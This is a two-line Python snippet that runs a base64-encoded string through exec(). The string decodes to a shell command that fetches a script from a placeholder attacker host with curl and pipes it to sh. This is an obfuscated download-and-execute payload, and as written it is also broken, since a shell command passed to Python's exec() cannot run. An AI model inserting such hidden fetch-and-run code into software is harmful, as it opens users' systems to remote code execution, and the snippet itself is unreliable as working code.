import base64

exec(base64.b64decode("Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmludmFsaWQveC5zaCB8IHNo"))
